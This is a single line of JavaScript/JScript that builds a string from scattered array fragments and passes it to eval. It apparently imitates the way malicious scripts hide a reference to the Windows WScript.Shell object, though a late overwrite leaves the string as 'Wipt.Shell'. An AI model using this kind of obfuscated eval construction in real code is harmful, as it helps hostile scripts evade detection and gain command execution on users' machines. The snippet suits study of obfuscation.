var m = new Array(); function f(v, i) { m[i] = v; }; f('ipt', 7); m[2] = 'WScr'; f('.Shell', 9); m[2] = 'W'; eval(m.join(''));
